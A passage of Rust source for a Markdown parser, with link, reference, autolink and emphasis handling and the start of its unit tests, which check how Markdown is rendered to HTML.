    let quote = *b.get(i).filter(|q| matches!(q, b'"' | b'\'' | b'('))?;
    let close = if quote == b'(' { b')' } else { quote };
    let mut j = i + 1;
    loop {
        match *b.get(j)? {
            c if c == close => return Some(j + 1),
            b'(' if quote == b'(' => return None,
            // A blank line ends any paragraph, so a title never spans one.
            b'\n' if b.get(j + 1) == Some(&b'\n') => return None,
            b'\\' => j += 2,
            _ => j += 1,
        }
    }
}

/// Parses `(destination "title")` starting at `start`; returns the unescaped
/// destination and the offset after `)`.
fn link_tail(src: &str, start: usize) -> Option<(String, usize)> {
    let b = src.as_bytes();
    if b.get(start) != Some(&b'(') {
        return None;
    }
    let i = skip_link_ws(b, start + 1);
    let (dest, mut i, _) = link_destination(src, i)?;
    let before_ws = i;
    i = skip_link_ws(b, i);
    if i > before_ws {
        if let Some(end) = link_title(src, i) {
            i = skip_link_ws(b, end);
        }
    }
    (b.get(i) == Some(&b')')).then_some((dest, i + 1))
}

/// Link reference definitions (`[label]: destination "title"`), by normalised label. The
/// first definition of a label wins; titles are dropped like inline links' titles.
#[derive(Default)]
struct Refs {
    defs: HashMap<String, Option<SafeUrl>>,
    /// The first pass, which only collects definitions: inlines are not parsed.
    collecting: bool,
}

/// Longest link label, in characters (CommonMark: 999).
const MAX_LABEL: usize = 999;

/// A label as CommonMark compares them: white space runs collapsed, case folded.
fn normalize_label(label: &str) -> String {
    let folded = label.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase();
    // Case folding, not lowercasing: `ẞ` and `SS` are the same label.
    if folded.contains('ß') {
        folded.replace('ß', "ss")
    } else {
        folded
    }
}

/// The link label at `i` (`[…]`, no unescaped brackets inside, at most 999 characters, not
/// blank): its inner text and the offset after `]`.
fn link_label(src: &str, i: usize) -> Option<(&str, usize)> {
    let b = src.as_bytes();
    if b.get(i) != Some(&b'[') {
        return None;
    }
    let mut j = i + 1;
    loop {
        if j - i > MAX_LABEL * 4 {
            return None;
        }
        match *b.get(j)? {
            b']' => break,
            b'[' => return None,
            b'\\' if b.get(j + 1).is_some_and(u8::is_ascii_punctuation) => j += 2,
            _ => j += 1,
        }
    }
    let inner = slice(src, i + 1, j);
    (is_label_text(inner)).then_some((inner, j + 1))
}

fn is_label_text(inner: &str) -> bool {
    !inner.trim().is_empty() && inner.chars().count() <= MAX_LABEL
}

/// Removes the link reference definitions that start a paragraph's text (remembering each in
/// `refs`) and returns the rest.
fn take_definitions<'a>(text: &'a str, refs: &mut Refs) -> &'a str {
    let mut rest = text;
    while rest.starts_with('[') {
        let Some((label, dest, len)) = definition(rest) else {
            break;
        };
        let key = normalize_label(label);
        refs.defs.entry(key).or_insert_with(|| SafeUrl::new(&dest));
        rest = self::rest(rest, len);
    }
    rest
}

/// One definition at the start of `s`: label, destination, length (through its line end).
fn definition(s: &str) -> Option<(&str, String, usize)> {
    let b = s.as_bytes();
    let (label, after) = link_label(s, 0)?;
    if b.get(after) != Some(&b':') {
        return None;
    }
    let i = skip_definition_ws(b, after + 1)?;
    let (dest, after_dest, empty) = link_destination(s, i)?;
    if empty {
        return None;
    }
    let line_end = |from: usize| {
        let mut k = from;
        while matches!(b.get(k), Some(b' ' | b'\t')) {
            k += 1;
        }
        match b.get(k) {
            None => Some(k),
            Some(b'\n') => Some(k + 1),
            _ => None,
        }
    };
    // A title needs white space before it and only white space after it on its line;
    // otherwise the definition ends with the destination's line, if that is all it holds.
    let title_start = skip_definition_ws(b, after_dest).filter(|&t| t > after_dest);
    if let Some(end) = title_start.and_then(|t| link_title(s, t)).and_then(line_end) {
        return Some((label, dest, end));
    }
    line_end(after_dest).map(|end| (label, dest, end))
}

/// Skips spaces and tabs with at most one line break among them.
fn skip_definition_ws(b: &[u8], mut i: usize) -> Option<usize> {
    let mut newlines = 0;
    while let Some(&c) = b.get(i) {
        match c {
            b' ' | b'\t' => {}
            b'\n' => {
                newlines += 1;
                if newlines > 1 {
                    return None;
                }
            }
            _ => break,
        }
        i += 1;
    }
    Some(i)
}

/// `1`, `12` or `1, 2`: the numbers of a citation bracket.
fn citation_numbers(s: &str) -> Option<Vec<u32>> {
    if s.len() > MAX_CITATION_LEN {
        return None;
    }
    let mut out = Vec::new();
    for part in s.split(',') {
        let part = part.trim();
        if part.is_empty() || part.len() > 9 || !part.bytes().all(|b| b.is_ascii_digit()) {
            return None;
        }
        let n: u32 = part.parse().ok()?;
        if n == 0 {
            return None;
        }
        out.push(n);
    }
    Some(out)
}

fn is_uri_autolink(s: &str) -> bool {
    let Some((scheme, _)) = s.split_once(':') else {
        return false;
    };
    let mut chars = scheme.chars();
    (2..=32).contains(&scheme.len())
        && chars.next().is_some_and(|c| c.is_ascii_alphabetic())
        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-'))
}

fn is_email(s: &str) -> bool {
    let Some((local, domain)) = s.split_once('@') else {
        return false;
    };
    let local_ok =
        !local.is_empty() && local.chars().all(|c| c.is_ascii_alphanumeric() || ".!#$%&'*+/=?^_`{|}~-".contains(c));
    let label_ok = |l: &str| {
        !l.is_empty()
            && l.len() <= 63
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
    };
    local_ok && domain.split('.').all(label_ok)
}

/// `<scheme:…>` or `<user@host>` at the start of `s`: (text, length, is email).
fn autolink(s: &str) -> Option<(String, usize, bool)> {
    let body = s.get(1..)?;
    let end = body.bytes().position(|b| matches!(b, b'>' | b'<') || b <= b' ' || b == 0x7f)?;
    if body.as_bytes().get(end) != Some(&b'>') {
        return None;
    }
    let inner = body.get(..end)?;
    if is_uri_autolink(inner) {
        Some((inner.to_owned(), end + 2, false))
    } else if is_email(inner) {
        Some((inner.to_owned(), end + 2, true))
    } else {
        None
    }
}

fn starts_with_ignore_case(s: &str, prefix: &str) -> bool {
    s.get(..prefix.len()).is_some_and(|p| p.eq_ignore_ascii_case(prefix))
}

/// The length of a bare `http(s)://` URL at the start of `s`, trailing punctuation
/// excluded (GFM extended autolinks).
fn bare_url_len(s: &str) -> Option<usize> {
    let scheme = if starts_with_ignore_case(s, "https://") {
        8
    } else if starts_with_ignore_case(s, "http://") {
        7
    } else {
        return None;
    };
    let bytes = s.as_bytes();
    let mut end = bytes
        .iter()
        .position(|&b| b.is_ascii_whitespace() || b < 0x20 || matches!(b, b'<' | b'>' | b'[' | b']' | b'`'))
        .unwrap_or(s.len());
    let url = bytes.get(..end)?;
    let open = url.iter().filter(|&&b| b == b'(').count();
    let mut close = url.iter().filter(|&&b| b == b')').count();
    while end > scheme {
        let Some(&last) = bytes.get(end - 1) else {
            break;
        };
        if matches!(last, b'?' | b'!' | b'.' | b',' | b':' | b'*' | b'_' | b'~' | b'\'' | b'"' | b';') {
            end -= 1;
        } else if last == b')' && close > open {
            end -= 1;
            close -= 1;
        } else {
            break;
        }
    }
    bytes.get(scheme).filter(|b| b.is_ascii_alphanumeric())?;
    (end > scheme).then_some(end)
}

struct InlineParser<'a> {
    src: &'a str,
    refs: &'a Refs,
    pos: usize,
    nodes: Vec<Node>,
    head: Option<usize>,
    tail: Option<usize>,
    /// Text not yet stored in a node.
    pending: String,
    delims: Vec<Delim>,
    brackets: Vec<Bracket>,
    /// `[` openers below this index of `brackets` cannot make links (no links in links).
    links_disabled_below: usize,
    backticks: Option<BacktickIndex>,
}

enum Finish {
    Root,
    Style(Style),
    Link(Option<SafeUrl>),
    Image(Option<SafeUrl>),
    /// Too deep, or a link inside a link: the children join the parent.
    Flatten,
}

struct Frame {
    cur: Option<usize>,
    out: Vec<Inline>,
    finish: Finish,
    depth: usize,
    in_link: bool,
}

fn push_inline(out: &mut Vec<Inline>, inline: Inline) {
    if let Inline::Text(s) = &inline {
        push_text(out, s);
    } else {
        out.push(inline);
    }
}

fn push_text(out: &mut Vec<Inline>, s: &str) {
    if s.is_empty() {
        return;
    }
    if let Some(Inline::Text(last)) = out.last_mut() {
        last.push_str(s);
    } else {
        out.push(Inline::Text(s.to_owned()));
    }
}

impl InlineParser<'_> {
    fn byte(&self, i: usize) -> Option<u8> {
        self.src.as_bytes().get(i).copied()
    }

    fn run(&mut self) {
        while let Some(b) = self.byte(self.pos) {
            match b {
                b'\\' => self.backslash(),
                b'`' => self.code_span(),
                b'*' | b'_' | b'~' => self.delimiter_run(b),
                b'[' => self.open_bracket(false),
                b'!' if self.byte(self.pos + 1) == Some(b'[') => self.open_bracket(true),
                b']' => self.close_bracket(),
                b'<' => self.angle(),
                b'&' => self.entity(),
                b'\n' => self.newline(),
                b'h' | b'H' if self.bare_url() => {}
                b'@' if self.bare_email() => {}
                _ => self.plain(),
            }
        }
    }

    fn finish(mut self) -> Vec<Inline> {
        self.flush_pending();
        let delims = std::mem::take(&mut self.delims);
        self.process_emphasis(delims);
        self.build()
    }

    // --- the node list

    fn node_mut(&mut self, i: usize) -> Option<&mut Node> {
        self.nodes.get_mut(i)
    }

    fn next_of(&self, i: usize) -> Option<usize> {
        self.nodes.get(i).and_then(|n| n.next)
    }

    fn prev_of(&self, i: usize) -> Option<usize> {
        self.nodes.get(i).and_then(|n| n.prev)
    }

    fn set_next(&mut self, i: usize, next: Option<usize>) {
        if let Some(n) = self.node_mut(i) {
            n.next = next;
        }
    }

    fn set_prev(&mut self, i: usize, prev: Option<usize>) {
        if let Some(n) = self.node_mut(i) {
            n.prev = prev;
        }
    }

    /// A node in no list yet.
    fn alloc(&mut self, kind: Kind) -> usize {
        self.nodes.push(Node { kind, prev: None, next: None });
        self.nodes.len() - 1
    }

    /// Appends a node after the pending text.
    fn push_node(&mut self, kind: Kind) -> usize {
        self.flush_pending();
        self.append(kind)
    }

    fn append(&mut self, kind: Kind) -> usize {
        let i = self.alloc(kind);
        match self.tail {
            Some(t) => {
                self.set_next(t, Some(i));
                self.set_prev(i, Some(t));
            }
            None => self.head = Some(i),
        }
        self.tail = Some(i);
        i
    }

    fn flush_pending(&mut self) {
        if !self.pending.is_empty() {
            let text = std::mem::take(&mut self.pending);
            self.append(Kind::Text(text));
        }
    }

    fn unlink(&mut self, i: usize) {
        let (prev, next) = (self.prev_of(i), self.next_of(i));
        match prev {
            Some(p) => self.set_next(p, next),
            None => self.head = next,
        }
        match next {
            Some(n) => self.set_prev(n, prev),
            None => self.tail = prev,
        }
        self.set_prev(i, None);
        self.set_next(i, None);
    }

    /// Moves everything after `i` into a detached chain and returns its first node.
    fn cut_after(&mut self, i: usize) -> Option<usize> {
        let first = self.next_of(i);
        if let Some(f) = first {
            self.set_prev(f, None);
        }
        self.set_next(i, None);
        self.tail = Some(i);
        first
    }

    /// Wraps the nodes strictly between `opener` and `closer` in a styled node.
    fn wrap(&mut self, opener: usize, closer: usize, style: Style) {
        let first = self.next_of(opener).filter(|&f| f != closer);
        if let Some(f) = first {
            if let Some(last) = self.prev_of(closer) {
                self.set_next(last, None);
            }
            self.set_prev(f, None);
        }
        let w = self.alloc(Kind::Styled { style, first });
        self.set_next(opener, Some(w));
        self.set_prev(w, Some(opener));
        self.set_next(w, Some(closer));
        self.set_prev(closer, Some(w));
    }

    fn shrink(&mut self, i: usize, by: usize) {
        if let Some(Node { kind: Kind::Text(s), .. }) = self.node_mut(i) {
            let keep = s.len().saturating_sub(by);
            s.truncate(keep);
        }
    }

    // --- tokens

    fn plain(&mut self) {
        let start = self.pos;
        let first_len = rest(self.src, start).chars().next().map_or(1, char::len_utf8);
        let mut end = start + first_len;
        while self.byte(end).is_some_and(|b| !is_special(b)) {
            end += 1;
        }
        self.pending.push_str(slice(self.src, start, end));
        self.pos = end;
    }

    fn backslash(&mut self) {
        match self.byte(self.pos + 1) {
            Some(b'\n') => {
                self.trim_pending_end();
                self.push_node(Kind::LineBreak);
                self.pos += 2;
                self.skip_spaces();
            }
            Some(c) if c.is_ascii_punctuation() => {
                self.pending.push(char::from(c));
                self.pos += 2;
            }
            _ => {
                self.pending.push('\\');
                self.pos += 1;
            }
        }
    }

    fn trim_pending_end(&mut self) {
        let keep = self.pending.trim_end_matches([' ', '\t']).len();
        self.pending.truncate(keep);
    }

    fn skip_spaces(&mut self) {
        while matches!(self.byte(self.pos), Some(b' ' | b'\t')) {
            self.pos += 1;
        }
    }

    fn newline(&mut self) {
        let hard = self.pending.ends_with("  ");
        self.trim_pending_end();
        if hard {
            self.push_node(Kind::LineBreak);
        } else {
            self.pending.push('\n');
        }
        self.pos += 1;
        self.skip_spaces();
    }

    fn run_len(&self, at: usize, ch: u8) -> usize {
        rest(self.src, at).bytes().take_while(|&b| b == ch).count()
    }

    fn code_span(&mut self) {
        let start = self.pos;
        let len = self.run_len(start, b'`');
        let open_end = start + len;
        let src = self.src;
        let index = self.backticks.get_or_insert_with(|| BacktickIndex::new(src));
        match index.find(len, open_end) {
            Some(close) => {
                let mut code = slice(self.src, open_end, close).replace('\n', " ");
                if code.len() >= 2 && code.starts_with(' ') && code.ends_with(' ') && !code.bytes().all(|b| b == b' ') {
                    code = slice(&code, 1, code.len() - 1).to_owned();
                }
                self.push_node(Kind::Code(code));
                self.pos = close + len;
            }
            None => {
                self.pending.push_str(slice(self.src, start, open_end));
                self.pos = open_end;
            }
        }
    }

    fn delimiter_run(&mut self, ch: u8) {
        let start = self.pos;
        let count = self.run_len(start, ch);
        let end = start + count;
        self.pos = end;
        let text = slice(self.src, start, end);
        if ch == b'~' && count != 2 {
            self.pending.push_str(text);
            return;
        }
        let before = slice(self.src, 0, start).chars().next_back();
        let after = rest(self.src, end).chars().next();
        let (left, right) = flanking(before, after);
        let (can_open, can_close) = if ch == b'_' {
            (left && (!right || before.is_some_and(is_punct)), right && (!left || after.is_some_and(is_punct)))
        } else {
            (left, right)
        };
        if !can_open && !can_close {
            self.pending.push_str(text);
            return;
        }
        let node = self.push_node(Kind::Text(text.to_owned()));
        self.delims.push(Delim { node, ch, count, orig: count, can_open, can_close });
    }

    fn open_bracket(&mut self, image: bool) {
        let len = if image { 2 } else { 1 };
        let node = self.push_node(Kind::Text(if image { "![" } else { "[" }.to_owned()));
        self.brackets.push(Bracket { node, image, delims_at: self.delims.len(), text_start: self.pos + len });
        self.pos += len;
    }

    fn literal_close_bracket(&mut self) {
        self.brackets.pop();
        self.links_disabled_below = self.links_disabled_below.min(self.brackets.len());
        self.pending.push(']');
        self.pos += 1;
    }

    fn close_bracket(&mut self) {
        let Some(top) = self.brackets.last() else {
            self.pending.push(']');
            self.pos += 1;
            return;
        };
        let (node, image, delims_at, text_start) = (top.node, top.image, top.delims_at, top.text_start);
        let active = image || self.brackets.len() > self.links_disabled_below;
        if !active {
            self.literal_close_bracket();
            return;
        }
        let target = match link_tail(self.src, self.pos + 1) {
            Some((dest, end)) => Some((SafeUrl::new(&dest), end)),
            None => self.reference(text_start),
        };
        if let Some((href, end)) = target {
            self.brackets.pop();
            self.flush_pending();
            let inner = self.delims.split_off(delims_at.min(self.delims.len()));
            self.process_emphasis(inner);
            let first = self.cut_after(node);
            if let Some(n) = self.node_mut(node) {
                n.kind = if image { Kind::Image { href, first } } else { Kind::Link { href, first } };
            }
            if !image {
                self.links_disabled_below = self.brackets.len();
            }
            self.pos = end;
            return;
        }
        if !image {
            if let Some(numbers) = citation_numbers(slice(self.src, text_start, self.pos)) {
                self.brackets.pop();
                self.pending.clear();
                self.delims.truncate(delims_at);
                self.cut_after(node);
                let mut numbers = numbers.into_iter();
                if let (Some(n), Some(first)) = (self.node_mut(node), numbers.next()) {
                    n.kind = Kind::Citation(first);
                }
                for number in numbers {
                    self.append(Kind::Citation(number));
                }
                self.pos += 1;
                return;
            }
        }
        self.literal_close_bracket();
    }

    /// A reference link's target, when the `]` at `pos` closes one: `[text][label]` (a
    /// full reference; an undefined label makes no link), `[label][]` (collapsed) or
    /// `[label]` (shortcut). `text_start` is where the bracket's text starts. The target
    /// and the offset after the link.
    fn reference(&self, text_start: usize) -> Option<(Option<SafeUrl>, usize)> {
        if self.refs.defs.is_empty() {
            return None;
        }
        let after = self.pos + 1;
        let (label, end) = match link_label(self.src, after) {
            Some(full) => full,
            None => {
                // The bracket's own text is the label (no brackets in it, at most 999
                // characters).
                let (label, close) = link_label(self.src, text_start.checked_sub(1)?)?;
                if close != after {
                    return None;
                }
                let collapsed = rest(self.src, after).starts_with("[]");
                (label, if collapsed { after + 2 } else { after })
            }
        };
        let href = self.refs.defs.get(&normalize_label(label))?;
        Some((href.clone(), end))
    }

    fn angle(&mut self) {
        let Some((text, len, email)) = autolink(rest(self.src, self.pos)) else {
            self.pending.push('<');
            self.pos += 1;
            return;
        };
        let href = if email { SafeUrl::new(&format!("mailto:{text}")) } else { SafeUrl::new(&text) };
        let child = self.alloc(Kind::Text(text));
        self.push_node(Kind::Link { href, first: Some(child) });
        self.pos += len;
    }

    fn bare_url(&mut self) -> bool {
        let before = slice(self.src, 0, self.pos).chars().next_back();
        if !before.is_none_or(|c| c.is_whitespace() || matches!(c, '*' | '_' | '~' | '(' | '"' | '\'')) {
            return false;
        }
        let Some(len) = bare_url_len(rest(self.src, self.pos)) else {
            return false;
        };
        let url = slice(self.src, self.pos, self.pos + len).to_owned();
        let href = SafeUrl::new(&url);
        let child = self.alloc(Kind::Text(url));
        self.push_node(Kind::Link { href, first: Some(child) });
        self.pos += len;
        true
    }

    /// A bare e-mail address around the `@` at `pos` (GFM's extended e-mail autolink): a
    /// local part of letters, digits and `.+-_` just before it, a domain of such labels with at
    /// least one dot after it, not ending in `-` or `_` (a final `.` is left out). It links
    /// to `mailto:`; the local part is taken back out of the pending text.
    fn bare_email(&mut self) -> bool {
        let b = self.src.as_bytes();
        let is_local = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'+' | b'-' | b'_');
        let local_len = b.get(..self.pos).unwrap_or(&[]).iter().rev().take_while(|&&c| is_local(c)).count();
        let start = self.pos - local_len;
        // Not a user in a URL (`ftp://user@host`, `scheme:user@host`), nor after an escape.
        let before = start.checked_sub(1).and_then(|i| b.get(i));
        if local_len == 0 || before.is_some_and(|c| matches!(c, b'/' | b':' | b'@' | b'\\')) {
            return false;
        }
        let local = slice(self.src, start, self.pos);
        if !self.pending.ends_with(local) {
            return false;
        }
        let domain_start = self.pos + 1;
        let mut end = domain_start
            + rest(self.src, domain_start)
                .bytes()
                .take_while(|&c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_'))
                .count();
        while end > domain_start && b.get(end - 1) == Some(&b'.') {
            end -= 1;
        }
        let domain = slice(self.src, domain_start, end);
        let labels_ok = domain.split('.').all(|l| !l.is_empty());
        if !labels_ok || !domain.contains('.') || domain.ends_with(['-', '_']) {
            return false;
        }
        let address = format!("{local}@{domain}");
        let keep = self.pending.len() - local.len();
        self.pending.truncate(keep);
        let href = SafeUrl::new(&format!("mailto:{address}"));
        let child = self.alloc(Kind::Text(address));
        self.push_node(Kind::Link { href, first: Some(child) });
        self.pos = end;
        true
    }

    fn entity(&mut self) {
        match decode_entity(rest(self.src, self.pos)) {
            Some((text, len)) => {
                self.pending.push_str(&text);
                self.pos += len;
            }
            None => {
                self.pending.push('&');
                self.pos += 1;
            }
        }
    }

    // --- emphasis

    /// Pairs up delimiter runs (in source order) into emphasis, strong and strike.
    /// `bottom[key]` remembers how far down the opener stack a failed search went, so
    /// each search is amortised constant and the whole pass is linear.
    fn process_emphasis(&mut self, delims: Vec<Delim>) {
        let mut openers: Vec<Delim> = Vec::new();
        let mut bottom = [0usize; 18];
        for mut closer in delims {
            if !closer.can_close {
                if closer.can_open {
                    openers.push(closer);
                }
                continue;
            }
            while closer.count > 0 {
                let key = delim_key(&closer);
                let floor = bottom.get(key).copied().unwrap_or(0).min(openers.len());
                let found =
                    (floor..openers.len()).rev().find(|&k| openers.get(k).is_some_and(|o| can_match(o, &closer)));
                let Some(k) = found else {
                    if let Some(b) = bottom.get_mut(key) {
                        *b = openers.len();
                    }
                    break;
                };
                openers.truncate(k + 1);
                let Some(opener) = openers.last_mut() else {
                    break;
                };
                let used = if closer.ch == b'~' || (opener.count >= 2 && closer.count >= 2) { 2 } else { 1 };
                let style = match (closer.ch, used) {
                    (b'~', _) => Style::Strike,
                    (_, 2) => Style::Strong,
                    _ => Style::Emphasis,
                };
                opener.count = opener.count.saturating_sub(used);
                closer.count = closer.count.saturating_sub(used);
                let (opener_node, opener_left) = (opener.node, opener.count);
                self.shrink(opener_node, used);
                self.shrink(closer.node, used);
                self.wrap(opener_node, closer.node, style);
                if opener_left == 0 {
                    self.unlink(opener_node);
                    openers.pop();
                }
                if closer.count == 0 {
                    self.unlink(closer.node);
                }
                for b in &mut bottom {
                    *b = (*b).min(openers.len());
                }
            }
            if closer.count > 0 && closer.can_open {
                openers.push(closer);
            }
        }
    }

    // --- the tree

    /// Turns the node list into the public tree, iteratively (spans can nest very
    /// deeply in hostile input). Spans deeper than MAX_DEPTH are flattened.
    fn build(&self) -> Vec<Inline> {
        let mut stack = vec![Frame { cur: self.head, out: Vec::new(), finish: Finish::Root, depth: 0, in_link: false }];
        loop {
            let Some(top) = stack.last_mut() else {
                return Vec::new();
            };
            let Some(node) = top.cur.and_then(|i| self.nodes.get(i)) else {
                let Some(done) = stack.pop() else {
                    return Vec::new();
                };
                let inline = match done.finish {
                    Finish::Root => return done.out,
                    Finish::Style(Style::Strong) => Inline::Strong(done.out),
                    Finish::Style(Style::Emphasis) => Inline::Emphasis(done.out),
                    Finish::Style(Style::Strike) => Inline::Strike(done.out),
                    Finish::Link(href) => Inline::Link { href, children: done.out },
                    Finish::Image(href) => Inline::ImagePlaceholder { alt: plain_text(&done.out), href },
                    Finish::Flatten => {
                        if let Some(parent) = stack.last_mut() {
                            for inline in done.out {
                                push_inline(&mut parent.out, inline);
                            }
                        }
                        continue;
                    }
                };
                if let Some(parent) = stack.last_mut() {
                    parent.out.push(inline);
                }
                continue;
            };
            top.cur = node.next;
            let (depth, in_link) = (top.depth, top.in_link);
            let deep = depth >= MAX_DEPTH;
            let (first, finish, link) = match &node.kind {
                Kind::Text(s) => {
                    push_text(&mut top.out, s);
                    continue;
                }
                Kind::Code(s) => {
                    top.out.push(Inline::Code(s.clone()));
                    continue;
                }
                Kind::LineBreak => {
                    top.out.push(Inline::LineBreak);
                    continue;
                }
                Kind::Citation(n) if in_link => {
                    push_text(&mut top.out, &format!("[{n}]"));
                    continue;
                }
                Kind::Citation(n) => {
                    top.out.push(Inline::Citation(*n));
                    continue;
                }
                Kind::Styled { style, first } => (*first, (!deep).then_some(Finish::Style(*style)), false),
                Kind::Link { href, first } => (*first, (!deep && !in_link).then(|| Finish::Link(href.clone())), true),
                Kind::Image { href, first } => (*first, (!deep).then(|| Finish::Image(href.clone())), true),
            };
            let frame = match finish {
                Some(finish) => {
                    Frame { cur: first, out: Vec::new(), finish, depth: depth + 1, in_link: in_link || link }
                }
                None => Frame { cur: first, out: Vec::new(), finish: Finish::Flatten, depth, in_link: in_link || link },
            };
            stack.push(frame);
        }
    }
}

/// True when `text` holds a run of more than `limit` characters with no space or line break
/// (base64, a hash, minified code). Laid out in a proportional font with word wrapping, such a
/// run cost Chromium seconds (100,000 characters: 6-30 s, growing faster than the length);
/// the UI shows such text in a monospace font broken anywhere, which lays out at once.
pub fn has_unbroken_run(text: &str, limit: usize) -> bool {
    let mut run = 0usize;
    for c in text.chars() {
        if c.is_whitespace() {
            run = 0;
        } else {
            run += 1;
            if run > limit {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_preview_drops_the_loud_marks_and_keeps_bullets_and_names() {
        use super::without_marks;
        assert_eq!(without_marks("Your order **A123** ships `today`."), "Your order A123 ships today.");
        assert_eq!(without_marks("## Summary\n> quoted\n* one\n- two"), "Summary\nquoted\n* one\n- two");
        assert_eq!(without_marks("{{customer_email}} and __proto__"), "{{customer_email}} and __proto__");
        assert_eq!(without_marks("2**8 is 256, `x"), "2**8 is 256, `x");
        assert_eq!(without_marks("#hashtag stays"), "#hashtag stays");
        assert_eq!(without_marks("  ### indented"), "  indented");
        assert_eq!(without_marks(""), "");
    }

    #[test]
    fn unbroken_runs_are_found() {
        assert!(!super::has_unbroken_run("short words only", 10));
        assert!(super::has_unbroken_run(&"A".repeat(11), 10));
        assert!(!super::has_unbroken_run(&format!("{} {}", "A".repeat(10), "B".repeat(10)), 10));
    }

    use super::*;
    use proptest::prelude::*;

    /// A compact HTML-like rendering, only to write expectations readably. A list item
    /// holding a single paragraph is shown without the `<p>`.
    fn html(blocks: &[Block]) -> String {
        let mut out = String::new();
        for block in blocks {
            render_block(block, &mut out);
        }
        out
    }

    fn render_block(block: &Block, out: &mut String) {
        match block {
            Block::Heading { level, inlines } => {
                out.push_str(&format!("<h{level}>{}</h{level}>", inl(inlines)));
            }
            Block::Paragraph(inlines) => out.push_str(&format!("<p>{}</p>", inl(inlines))),
            Block::List { ordered, start, items } => {
                out.push_str(
                    match (ordered, start) {
                        (false, _) => "<ul>".to_owned(),
                        (true, 1) => "<ol>".to_owned(),
                        (true, n) => format!("<ol start={n}>"),
                    }
                    .as_str(),
                );
                for item in items {
                    out.push_str("<li>");
                    match item.as_slice() {
                        [Block::Paragraph(inlines)] => out.push_str(&inl(inlines)),
                        blocks => out.push_str(&html(blocks)),
                    }
                    out.push_str("</li>");
                }
                out.push_str(if *ordered { "</ol>" } else { "</ul>" });
            }
            Block::CodeBlock { lang, code } => match lang {
                Some(lang) => out.push_str(&format!("<pre {lang}>{}</pre>", esc(code))),
                None => out.push_str(&format!("<pre>{}</pre>", esc(code))),
            },
            Block::Quote(blocks) => out.push_str(&format!("<blockquote>{}</blockquote>", html(blocks))),
            Block::Rule => out.push_str("<hr>"),
            Block::Table { header, rows } => {
                out.push_str("<table><tr>");
                for cell in header {
                    out.push_str(&format!("<th>{}</th>", inl(cell)));
                }
                out.push_str("</tr>");
                for row in rows {
                    out.push_str("<tr>");
                    for cell in row {
                        out.push_str(&format!("<td>{}</td>", inl(cell)));
                    }
                    out.push_str("</tr>");
                }
                out.push_str("</table>");
            }
        }
    }

    fn esc(s: &str) -> String {
        s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
    }

    fn href(h: &Option<SafeUrl>) -> String {
        h.as_ref().map_or(String::new(), |u| format!(" href={}", u.as_str()))
    }

    fn inl(inlines: &[Inline]) -> String {
        inlines
            .iter()
            .map(|i| match i {
                Inline::Text(s) => esc(s),
                Inline::Strong(c) => format!("<b>{}</b>", inl(c)),
                Inline::Emphasis(c) => format!("<i>{}</i>", inl(c)),
                Inline::Strike(c) => format!("<s>{}</s>", inl(c)),
                Inline::Code(s) => format!("<code>{}</code>", esc(s)),
                Inline::Link { href: h, children } => {
                    format!("<a{}>{}</a>", href(h), inl(children))
                }
                Inline::ImagePlaceholder { alt, href: h } => {
                    format!("<image{} alt={}>", href(h), esc(alt))
                }
                Inline::LineBreak => "<br>".to_owned(),
                Inline::Citation(n) => format!("<cite {n}>"),
            })
            .collect()
    }

    fn check(cases: &[(&str, &str)]) {
        let mut failures = Vec::new();
        for (input, expected) in cases {
            let got = html(&parse(input));
            if got != *expected {
                failures.push(format!("input {input:?}\n  expected {expected}\n  got      {got}"));
            }
        }
        assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
    }

    #[test]
    fn headings_paragraphs_and_rules() {
        check(&[
            ("", ""),
            ("   \n\n", ""),
            ("hello", "<p>hello</p>"),
            ("one\ntwo", "<p>one\ntwo</p>"),
            ("one\n\ntwo", "<p>one</p><p>two</p>"),
            ("  indented start", "<p>indented start</p>"),
            ("# Title", "<h1>Title</h1>"),
            ("###### Six", "<h6>Six</h6>"),
            ("####### Seven", "<p>####### Seven</p>"),
            ("#NoSpace", "<p>#NoSpace</p>"),
            ("## Closed ##", "<h2>Closed</h2>"),
            ("# Hash#tag", "<h1>Hash#tag</h1>"),
            ("#", "<h1></h1>"),
            ("# *Em* title", "<h1><i>Em</i> title</h1>"),
            ("Title\n=====", "<h1>Title</h1>"),
            ("Sub\n---", "<h2>Sub</h2>"),
            ("para\n# Head", "<p>para</p><h1>Head</h1>"),
            ("---", "<hr>"),
            ("***", "<hr>"),
            ("_ _ _", "<hr>"),
            ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
            ("a\n***\nb", "<p>a</p><hr><p>b</p>"),
            ("--", "<p>--</p>"),
            ("    four spaces", "<p>four spaces</p>"),
            ("line one  \nline two", "<p>line one<br>line two</p>"),
            ("line one\\\nline two", "<p>line one<br>line two</p>"),
            ("a\r\nb\r\n\r\nc", "<p>a\nb</p><p>c</p>"),
        ]);
    }

    #[test]
    fn emphasis_and_code_spans() {
        check(&[
            ("**bold**", "<p><b>bold</b></p>"),
            ("__bold__", "<p><b>bold</b></p>"),
            ("*em* and _em_", "<p><i>em</i> and <i>em</i></p>"),
            ("***both***", "<p><i><b>both</b></i></p>"),
            ("**bold *nested em* bold**", "<p><b>bold <i>nested em</i> bold</b></p>"),
            ("*em **strong** em*", "<p><i>em <b>strong</b> em</i></p>"),
            ("~~gone~~", "<p><s>gone</s></p>"),
            ("~~**both**~~", "<p><s><b>both</b></s></p>"),
            ("~5 minutes, ~~x~~", "<p>~5 minutes, <s>x</s></p>"),
            ("a ~~~not strike~~~ here", "<p>a ~~~not strike~~~ here</p>"),
            ("~~~not strike~~~ here", "<pre not></pre>"),
            ("snake_case_name", "<p>snake_case_name</p>"),
            ("2 * 3 * 4", "<p>2 * 3 * 4</p>"),
            ("**unclosed", "<p>**unclosed</p>"),
            ("*a **b*", "<p>*a *<i>b</i></p>"),
            ("**a*", "<p>*<i>a</i></p>"),
            ("*foo**bar**baz*", "<p><i>foo<b>bar</b>baz</i></p>"),
            ("foo*bar*baz", "<p>foo<i>bar</i>baz</p>"),
            ("foo_bar_baz", "<p>foo_bar_baz</p>"),
